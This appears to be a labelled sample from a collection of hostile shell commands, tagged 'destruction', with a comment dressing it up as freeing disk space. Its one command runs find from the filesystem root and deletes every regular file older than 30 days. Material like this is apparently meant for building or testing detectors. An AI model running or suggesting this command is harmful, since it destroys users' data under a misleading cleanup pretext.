# description: Deletes every file on the system older than 30 days by running find -delete from /.
# family: destruction
# clean up "old files" to recover space
find / -xdev -type f -mtime +30 -delete
